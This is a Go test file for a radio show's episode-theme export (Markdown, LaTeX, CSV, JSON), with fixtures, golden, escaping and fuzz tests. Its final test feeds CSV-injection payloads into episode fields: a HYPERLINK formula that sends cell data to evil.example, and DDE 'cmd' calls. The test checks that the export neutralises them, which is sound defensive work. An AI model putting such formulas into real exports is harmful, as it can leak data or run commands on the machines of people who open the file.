package feed

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/picasoft/antenne/episodes"
)

func parisTime(t *testing.T, year int, month time.Month, day, hour, min int) time.Time {
	t.Helper()
	return time.Date(year, month, day, hour, min, 0, 0, episodes.Paris())
}

// themesNow is the build time of the fixture: after the spring semester
// 2021, before the scheduled episode goes out.
func themesNow(t *testing.T) time.Time { return parisTime(t, 2021, time.August, 15, 12, 0) }

// themesCatalog is a show's episodes around the spring semester 2021 (P21),
// in no particular order.
func themesCatalog(t *testing.T) []*episodes.Episode {
	at := func(month time.Month, day, hour, min int) time.Time {
		return parisTime(t, 2021, month, day, hour, min)
	}
	hosts := []episodes.Person{{Name: "Stéphane"}, {Name: "Quentin", Role: episodes.RoleHost}}
	ep := func(slug, title, theme string, aired, publish time.Time, dur time.Duration, guests ...string) *episodes.Episode {
		e := &episodes.Episode{
			ID: "id-" + slug, Show: "lvel", Slug: slug, Title: title, Theme: theme,
			AiredAt: aired, PublishAt: publish,
			Persons: slices.Clone(hosts),
			Media:   episodes.Media{Duration: dur},
		}
		for _, g := range guests {
			e.Persons = append(e.Persons, episodes.Person{Name: g, Role: episodes.RoleGuest})
		}
		return e
	}
	morning := func(month time.Month, day int) time.Time { return at(month, day, 9, 30) }
	return []*episodes.Episode{
		ep("jul-31", "Spéciale été : PeerTube", "", at(time.July, 31, 23, 30), at(time.August, 2, 10, 0), 45*time.Minute),
		ep("aug-1", "Rentrée : Mumble", "", at(time.August, 1, 23, 30), at(time.August, 2, 10, 0), 30*time.Minute),
		ep("jan-31", "Bilan de l'automne", "", at(time.January, 31, 23, 30), at(time.February, 1, 10, 0), 50*time.Minute),
		ep("feb-1", "Les logiciels libres à l'école", "", at(time.February, 1, 23, 30), at(time.February, 2, 10, 0),
			58*time.Minute+12*time.Second+600*time.Millisecond, "Élise Dupré"),
		ep("libre-gratuit", "Libre & gratuit : 100 % pareil ?", "", morning(time.February, 12), morning(time.February, 12),
			time.Hour+2*time.Minute+3*time.Second),
		ep("vie-privee-1", "Vie privée (partie 1)", "Vie privée et données personnelles",
			morning(time.March, 5), morning(time.March, 5), 55*time.Minute, "Zoé Ñúñez"),
		ep("vie-privee-2", "Vie privée (partie 2)", "Vie privée et données personnelles",
			morning(time.March, 12), morning(time.March, 12), 57*time.Minute, "Zoé Ñúñez"),
		// Summer time starts on 28 March 2021.
		ep("chiffrement-1", "Chiffrement (partie 1)", "", morning(time.March, 28), morning(time.March, 28), 52*time.Minute),
		ep("chiffrement-2", "Chiffrement (partie 2)", "", morning(time.April, 2), morning(time.April, 2), 51*time.Minute),
		ep("shell", "Le shell", `Le shell : $XDG_CONFIG_HOME, ~/.bashrc, ls *.txt | grep ^a 2>&1, #!/bin/sh, {a,b} et \n`,
			morning(time.April, 9), morning(time.April, 9), 59*time.Minute),
		// No air date: the publish date places it.
		ep("framasoft", "Émission spéciale : Framasoft", "", time.Time{}, at(time.April, 23, 12, 0), 40*time.Minute),
		// The same theme again, spelled with other spaces and case.
		ep("vie-privee-questions", "Vie privée : vos questions", " vie privée et  données personnelles ",
			morning(time.May, 21), morning(time.May, 21), 48*time.Minute),
		ep("brouillon", "Brouillon : ne pas publier", "", morning(time.May, 28), time.Time{}, 10*time.Minute),
		ep("nextcloud", "Programmé : Nextcloud", "", morning(time.June, 4), at(time.September, 3, 12, 0), 55*time.Minute),
	}
}

// themesP21 is what InSemester selects from the fixture at themesNow.
func themesP21(t *testing.T) []*episodes.Episode {
	p21, err := episodes.ParseSemester("P21")
	if err != nil {
		t.Fatal(err)
	}
	return episodes.InSemester(themesCatalog(t), p21, themesNow(t))
}

// wantThemesP21 is the list of themes of the fixture's P21, in aired order.
var wantThemesP21 = []string{
	"Les logiciels libres à l'école",
	"Libre & gratuit : 100 % pareil ?",
	"Vie privée et données personnelles",
	"Chiffrement (partie 1)",
	"Chiffrement (partie 2)",
	`Le shell : $XDG_CONFIG_HOME, ~/.bashrc, ls *.txt | grep ^a 2>&1, #!/bin/sh, {a,b} et \n`,
	"Émission spéciale : Framasoft",
	"Spéciale été : PeerTube",
}

func TestThemesGolden(t *testing.T) {
	tests := []struct {
		file string
		opts ThemesOptions
	}{
		{"themes-md.golden", ThemesOptions{}},
		{"themes-md-intro-fr.golden", ThemesOptions{Format: ThemesMarkdown, Lang: "fr", Intro: true}},
		{"themes-md-intro-en.golden", ThemesOptions{Format: ThemesMarkdown, Lang: "en", Intro: true}},
		{"themes-latex.golden", ThemesOptions{Format: ThemesLaTeX}},
		{"themes-latex-intro-fr.golden", ThemesOptions{Format: ThemesLaTeX, Intro: true}},
		{"themes-csv.golden", ThemesOptions{Format: ThemesCSV, Intro: true, Links: testLinks(t)}},
		{"themes-json.golden", ThemesOptions{Format: ThemesJSON, Intro: true, Links: testLinks(t)}},
	}
	eps := themesP21(t)
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			got, err := Themes(eps, tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, tt.file, got)
			again, err := Themes(eps, tt.opts)
			if err != nil || !bytes.Equal(again, got) {
				t.Errorf("second call gave other bytes (%v):\n%s", err, again)
			}
		})
	}
}

func TestThemesMarkdownParsesBack(t *testing.T) {
	for _, tt := range []struct {
		lang, intro string
	}{{"fr", "Les thèmes suivants auront été abordés ce semestre :"}, {"en", "The following themes were discussed this semester:"}} {
		t.Run(tt.lang, func(t *testing.T) {
			out, err := Themes(themesP21(t), ThemesOptions{Lang: tt.lang, Intro: true})
			if err != nil {
				t.Fatal(err)
			}
			intro, list, ok := strings.Cut(string(out), "\n\n")
			if !ok || intro != tt.intro {
				t.Fatalf("got intro %q, want %q", intro, tt.intro)
			}
			var got []string
			for line := range strings.Lines(list) {
				item, ok := strings.CutPrefix(strings.TrimSuffix(line, "\n"), "- ")
				if !ok {
					t.Fatalf("line %q is not a list item", line)
				}
				text, err := unescapeMarkdown(item)
				if err != nil {
					t.Fatal(err)
				}
				got = append(got, text)
			}
			if !slices.Equal(got, wantThemesP21) {
				t.Errorf("got themes\n%q\nwant\n%q", got, wantThemesP21)
			}
		})
	}
}

func TestThemesLaTeXParsesBack(t *testing.T) {
	out, err := Themes(themesP21(t), ThemesOptions{Format: ThemesLaTeX, Intro: true})
	if err != nil {
		t.Fatal(err)
	}
	intro, env, ok := strings.Cut(string(out), "\n\n")
	if want := "Les thèmes suivants auront été abordés ce semestre :"; !ok || intro != want {
		t.Fatalf("got intro %q, want %q", intro, want)
	}
	lines := strings.Split(strings.TrimSuffix(env, "\n"), "\n")
	if len(lines) < 2 || lines[0] != `\begin{itemize}` || lines[len(lines)-1] != `\end{itemize}` {
		t.Fatalf("not one itemize environment:\n%s", env)
	}
	var got []string
	for _, line := range lines[1 : len(lines)-1] {
		item, ok := strings.CutPrefix(line, `  \item `)
		if !ok {
			t.Fatalf("line %q is not an item", line)
		}
		text, err := unescapeLaTeX(item)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, text)
	}
	if !slices.Equal(got, wantThemesP21) {
		t.Errorf("got themes\n%q\nwant\n%q", got, wantThemesP21)
	}
}

func TestThemesCSVParsesBack(t *testing.T) {
	eps := themesP21(t)
	out, err := Themes(eps, ThemesOptions{Format: ThemesCSV, Links: testLinks(t)})
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(eps)+1 {
		t.Fatalf("got %d records, want a header and %d rows", len(records), len(eps))
	}
	if got, want := strings.Join(records[0], ","), "aired_date,aired_at,title,theme,duration,duration_seconds,url,hosts,guests"; got != want {
		t.Errorf("got header %s, want %s", got, want)
	}
	first := records[1]
	want := []string{
		"2021-02-01", "2021-02-01T23:30:00+01:00", "Les logiciels libres à l'école", "Les logiciels libres à l'école",
		"0:58:13", "3493", "https://radio.picasoft.net/lvel/feb-1", "Stéphane; Quentin", "Élise Dupré",
	}
	if !slices.Equal(first, want) {
		t.Errorf("got first row\n%q\nwant\n%q", first, want)
	}
	for i, r := range records[1:] {
		if r[2] != oneLine(eps[i].Title) || r[3] != oneLine(eps[i].ThemeOrTitle()) {
			t.Errorf("row %d: got title %q theme %q, want %q %q", i, r[2], r[3], eps[i].Title, eps[i].ThemeOrTitle())
		}
	}
}

func TestThemesJSONParsesBack(t *testing.T) {
	eps := themesP21(t)
	out, err := Themes(eps, ThemesOptions{Format: ThemesJSON})
	if err != nil {
		t.Fatal(err)
	}
	var rows []map[string]any
	if err := json.Unmarshal(out, &rows); err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(eps) {
		t.Fatalf("got %d rows, want %d", len(rows), len(eps))
	}
	// Summer time: the offset is +02:00 from 28 March.
	r := rows[6]
	got := fmt.Sprint(r["aired_at"], " ", r["duration"], " ", r["duration_seconds"], " ",
		r["hosts"], " ", r["guests"], " [", r["url"], "]")
	if want := "2021-04-09T09:30:00+02:00 0:59:00 3540 [Stéphane Quentin] [] []"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	if got, want := rows[1]["title"], "Libre & gratuit : 100 % pareil ?"; got != want {
		t.Errorf("got title %q, want %q", got, want)
	}
	if !bytes.Contains(out, []byte("Libre & gratuit")) {
		t.Error("& is escaped in the JSON text, want it as is")
	}
	for i, r := range rows {
		if len(r) != len(themeHeader) {
			t.Errorf("row %d has %d keys, want %d (the CSV header)", i, len(r), len(themeHeader))
		}
		for _, k := range themeHeader {
			if _, ok := r[k]; !ok {
				t.Errorf("row %d lacks key %q", i, k)
			}
		}
	}
}

func TestThemesScheduledOnceOut(t *testing.T) {
	p21, _ := episodes.ParseSemester("P21")
	catalog := themesCatalog(t)
	for _, tt := range []struct {
		now  time.Time
		want bool
	}{
		{parisTime(t, 2021, time.September, 3, 11, 59), false},
		{parisTime(t, 2021, time.September, 3, 12, 0), true},
	} {
		out, err := Themes(episodes.InSemester(catalog, p21, tt.now), ThemesOptions{})
		if err != nil {
			t.Fatal(err)
		}
		got := strings.Contains(string(out), "- Programmé : Nextcloud\n- Spéciale été")
		if got != tt.want {
			t.Errorf("at %v: listed %v, want %v:\n%s", tt.now, got, tt.want, out)
		}
		if bytes.Contains(out, []byte("Brouillon")) {
			t.Errorf("at %v: the draft is listed:\n%s", tt.now, out)
		}
	}
}

func TestThemesEmpty(t *testing.T) {
	for _, f := range []ThemesFormat{"", ThemesMarkdown, ThemesLaTeX, ThemesCSV, ThemesJSON} {
		for _, eps := range [][]*episodes.Episode{nil, {}} {
			got, err := Themes(eps, ThemesOptions{Format: f, Intro: true, Links: testLinks(t)})
			if err != nil || got != nil {
				t.Errorf("format %q, %d episodes: got %q, %v; want nil, nil", f, len(eps), got, err)
			}
		}
	}
	// A semester with no episode: P22 is empty in the fixture.
	p22, _ := episodes.ParseSemester("P22")
	got, err := Themes(episodes.InSemester(themesCatalog(t), p22, themesNow(t)), ThemesOptions{Intro: true})
	if err != nil || got != nil {
		t.Errorf("P22: got %q, %v; want nil, nil", got, err)
	}
}

func TestThemesBadOptions(t *testing.T) {
	eps := themesP21(t)
	for _, tt := range []struct {
		opts ThemesOptions
		want string
	}{
		{ThemesOptions{Format: "pdf"}, `export themes: unknown themes format "pdf": use md, latex, csv or json`},
		{ThemesOptions{Lang: "de"}, `export themes: unsupported language "de": use fr or en`},
	} {
		for _, eps := range [][]*episodes.Episode{eps, nil} {
			got, err := Themes(eps, tt.opts)
			if err == nil || err.Error() != tt.want || got != nil {
				t.Errorf("%+v: got %q, %v; want error %q", tt.opts, got, err, tt.want)
			}
		}
	}
}

func TestParseThemesFormat(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want ThemesFormat
	}{
		{"", ThemesMarkdown}, {"md", ThemesMarkdown}, {"Markdown", ThemesMarkdown},
		{"latex", ThemesLaTeX}, {"tex", ThemesLaTeX}, {"CSV", ThemesCSV}, {" json ", ThemesJSON},
	} {
		got, err := ParseThemesFormat(tt.in)
		if err != nil || got != tt.want {
			t.Errorf("ParseThemesFormat(%q) = %q, %v; want %q", tt.in, got, err, tt.want)
		}
	}
	if _, err := ParseThemesFormat("xml"); err == nil {
		t.Error("ParseThemesFormat(xml) gave no error")
	}
}

func TestThemesDistinct(t *testing.T) {
	ep := func(title, theme string) *episodes.Episode {
		return &episodes.Episode{Title: title, Theme: theme}
	}
	tests := []struct {
		name string
		eps  []*episodes.Episode
		want []string
	}{
		{"two parts, one theme", []*episodes.Episode{ep("Thème (partie 1)", "Thème"), ep("Thème (partie 2)", "Thème")}, []string{"Thème"}},
		{"two parts, titles only", []*episodes.Episode{ep("Thème (partie 1)", ""), ep("Thème (partie 2)", "")}, []string{"Thème (partie 1)", "Thème (partie 2)"}},
		{"same title twice", []*episodes.Episode{ep("Revue de presse", ""), ep("Autre", ""), ep("Revue de presse", "")}, []string{"Revue de presse", "Autre"}},
		{"case and spaces", []*episodes.Episode{ep("a", "Vie  privée "), ep("b", "vie privée")}, []string{"Vie privée"}},
		{"accents differ", []*episodes.Episode{ep("a", "Données"), ep("b", "Donnees")}, []string{"Données", "Donnees"}},
		{"blank theme and title", []*episodes.Episode{ep("", "  "), ep("b", "")}, []string{"b"}},
	}
	for _, tt := range tests {
		var got []string
		for _, l := range distinctThemes(tt.eps, nil) {
			got = append(got, l.theme)
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("%s: got %q, want %q", tt.name, got, tt.want)
		}
	}
}

// TestThemesListens: the listens the caller passes appear in every
// format, summed per theme in the lists, 0 for an episode without any.
func TestThemesListens(t *testing.T) {
	eps := themesP21(t)
	counts := map[string]int64{"id-vie-privee-1": 40, "id-vie-privee-2": 2, "id-vie-privee-questions": 1, "id-shell": 1, "id-framasoft": 7}
	for _, tt := range []struct {
		opts ThemesOptions
		want []string
	}{
		{ThemesOptions{Format: ThemesMarkdown}, []string{"- Vie privée et données personnelles (43 écoutes)\n", "- Chiffrement (partie 1) (0 écoute)\n", "(1 écoute)\n", "- Émission spéciale : Framasoft (7 écoutes)\n"}},
		{ThemesOptions{Format: ThemesMarkdown, Lang: "en"}, []string{"- Vie privée et données personnelles (43 listens)\n", "(0 listens)\n", "(1 listen)\n"}},
		{ThemesOptions{Format: ThemesLaTeX}, []string{"  \\item Vie privée et données personnelles (43 écoutes)\n", "  \\item Émission spéciale : Framasoft (7 écoutes)\n"}},
		{ThemesOptions{Format: ThemesCSV}, []string{",guests,listens\n", "Zoé Ñúñez,40\n", "Zoé Ñúñez,2\n", ",7\n"}},
		{ThemesOptions{Format: ThemesJSON}, []string{`"listens": 40`, `"listens": 0`, `"listens": 7`}},
	} {
		out, err := Themes(eps, ThemesOptions{Format: tt.opts.Format, Lang: tt.opts.Lang, Listens: counts})
		if err != nil {
			t.Fatal(err)
		}
		for _, w := range tt.want {
			if !strings.Contains(string(out), w) {
				t.Errorf("%s %s: no %q in\n%s", tt.opts.Format, tt.opts.Lang, w, out)
			}
		}
		// Without listens, nothing of them.
		plain, _ := Themes(eps, ThemesOptions{Format: tt.opts.Format, Lang: tt.opts.Lang})
		if bytes.Contains(plain, []byte("listens")) || bytes.Contains(plain, []byte("écoute")) {
			t.Errorf("%s without listens mentions them:\n%s", tt.opts.Format, plain)
		}
	}
	// CSV and JSON parse back with the column.
	out, _ := Themes(eps, ThemesOptions{Format: ThemesCSV, Listens: counts})
	recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if len(r) != len(themeHeader)+1 {
			t.Fatalf("CSV record %q: want %d fields", r, len(themeHeader)+1)
		}
	}
	out, _ = Themes(eps, ThemesOptions{Format: ThemesJSON, Listens: counts})
	var rows []struct {
		Theme   string `json:"theme"`
		Listens *int64 `json:"listens"`
	}
	if err := json.Unmarshal(out, &rows); err != nil {
		t.Fatal(err)
	}
	var sum int64
	for _, r := range rows {
		if r.Listens == nil {
			t.Fatalf("JSON row %q has no listens", r.Theme)
		}
		sum += *r.Listens
	}
	if sum != 51 {
		t.Errorf("JSON listens sum to %d, want 51", sum)
	}
}

func TestEscapeLaTeX(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Libre & gratuit : 100 %", `Libre \& gratuit : 100 \%`},
		{"$HOME #1 a_b {x}", `\$HOME \#1 a\_b \{x\}`},
		{`~ ^ \`, `\textasciitilde{} \textasciicircum{} \textbackslash{}`},
		{`\&`, `\textbackslash{}\&`},
		{"Éléphant, çà et là, œuvre", "Éléphant, çà et là, œuvre"},
		{"a<b>c|d", `a\textless{}b\textgreater{}c\textbar{}d`},
	}
	for _, tt := range tests {
		if got := escapeLaTeX(tt.in); got != tt.want {
			t.Errorf("escapeLaTeX(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestEscapeMarkdown(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Libre & gratuit : 100 %", "Libre & gratuit : 100 %"},
		{"*gras* et _italique_", `\*gras\* et \_italique\_`},
		{"[lien](x) `code` <b> ~~barré~~ a|b", "\\[lien\\](x) \\`code\\` \\<b\\> \\~\\~barré\\~\\~ a\\|b"},
		{`C:\chemin`, `C:\\chemin`},
		{"# Titre", `\# Titre`},
		{"- tiret", `\- tiret`},
		{"+ plus", `\+ plus`},
		{"> citation", `\> citation`},
		{"2021. Une année libre", `2021\. Une année libre`},
		{"1) Intro", `1\) Intro`},
		{"2021 en 3.5 heures", "2021 en 3.5 heures"},
		{"C# et F#", "C# et F#"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := escapeMarkdown(tt.in); got != tt.want {
			t.Errorf("escapeMarkdown(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func FuzzEscapeLaTeX(f *testing.F) {
	for _, s := range wantThemesP21 {
		f.Add(s)
	}
	f.Add(`\textbackslash{}`)
	f.Fuzz(func(t *testing.T, s string) {
		back, err := unescapeLaTeX(escapeLaTeX(s))
		if err != nil {
			t.Fatalf("escapeLaTeX(%q) = %q: %v", s, escapeLaTeX(s), err)
		}
		if back != s {
			t.Errorf("got %q back, want %q", back, s)
		}
	})
}

func FuzzEscapeMarkdown(f *testing.F) {
	for _, s := range wantThemesP21 {
		f.Add(s)
	}
	f.Add("12) x")
	f.Fuzz(func(t *testing.T, s string) {
		back, err := unescapeMarkdown(escapeMarkdown(s))
		if err != nil {
			t.Fatalf("escapeMarkdown(%q) = %q: %v", s, escapeMarkdown(s), err)
		}
		if back != s {
			t.Errorf("got %q back, want %q", back, s)
		}
	})
}

// unescapeLaTeX reads back text that escapeLaTeX wrote, and fails on a
// special character left bare.
func unescapeLaTeX(s string) (string, error) {
	words := map[string]string{
		`\textbackslash{}`: `\`, `\textasciitilde{}`: "~", `\textasciicircum{}`: "^",
		`\textless{}`: "<", `\textgreater{}`: ">", `\textbar{}`: "|",
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c != '\\' {
			if strings.IndexByte("&%$#_{}~^<>|", c) >= 0 {
				return "", fmt.Errorf("bare %q at %d in %q", c, i, s)
			}
			b.WriteByte(c)
			continue
		}
		if i+1 < len(s) && strings.IndexByte("&%$#_{}", s[i+1]) >= 0 {
			b.WriteByte(s[i+1])
			i++
			continue
		}
		found := false
		for cmd, text := range words {
			if strings.HasPrefix(s[i:], cmd) {
				b.WriteString(text)
				i += len(cmd) - 1
				found = true
				break
			}
		}
		if !found {
			return "", fmt.Errorf("unknown command at %d in %q", i, s)
		}
	}
	return b.String(), nil
}

// unescapeMarkdown reads back text that escapeMarkdown wrote, by the
// CommonMark rule (a backslash before ASCII punctuation stands for it), and
// fails on inline markup left bare or a line that would open a block.
func unescapeMarkdown(s string) (string, error) {
	if len(s) > 0 && strings.IndexByte("#+->", s[0]) >= 0 {
		return "", fmt.Errorf("%q opens a block", s)
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '\\' && i+1 < len(s) && strings.IndexByte("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~", s[i+1]) >= 0:
			b.WriteByte(s[i+1])
			i++
		case strings.IndexByte("\\`*_[]<>~|", c) >= 0:
			return "", fmt.Errorf("bare %q at %d in %q", c, i, s)
		case c >= '0' && c <= '9' && strings.Trim(s[:i], "0123456789") == "" && i+1 < len(s) && (s[i+1] == '.' || s[i+1] == ')'):
			return "", fmt.Errorf("%q opens an ordered list", s)
		default:
			b.WriteByte(c)
		}
	}
	return b.String(), nil
}

// TestThemesCSVFormulasInert exports episodes whose texts start like
// spreadsheet formulas: every such CSV cell starts with a single quote,
// and other cells are unchanged.
func TestThemesCSVFormulasInert(t *testing.T) {
	aired := parisTime(t, 2021, time.March, 5, 9, 30)
	e := &episodes.Episode{
		ID: "id-x", Show: "lvel", Slug: "x", AiredAt: aired, PublishAt: aired,
		Title: `=HYPERLINK("http://evil.example/?"&A1,"clic")`, Theme: "+cmd|' /C calc'!A0",
		Persons: []episodes.Person{{Name: "@SUM(1+1)*cmd|' /C calc'!A0"}, {Name: "-2+3", Role: episodes.RoleGuest}},
	}
	plain := &episodes.Episode{ID: "id-y", Show: "lvel", Slug: "y", AiredAt: aired, PublishAt: aired,
		Title: "Libre = gratuit ?", Persons: []episodes.Person{{Name: "Zoé"}}}
	out, err := Themes([]*episodes.Episode{e, plain}, ThemesOptions{Format: ThemesCSV})
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range records[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %d %q starts like a formula", i, cell)
			}
		}
	}
	want := [][]string{
		{`'=HYPERLINK("http://evil.example/?"&A1,"clic")`, "'+cmd|' /C calc'!A0", "", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"},
		{"Libre = gratuit ?", "Libre = gratuit ?", "", "Zoé", ""},
	}
	for i, w := range want {
		r := records[i+1]
		if got := []string{r[2], r[3], r[6], r[7], r[8]}; !slices.Equal(got, w) {
			t.Errorf("row %d: got %q, want %q", i, got, w)
		}
	}
}
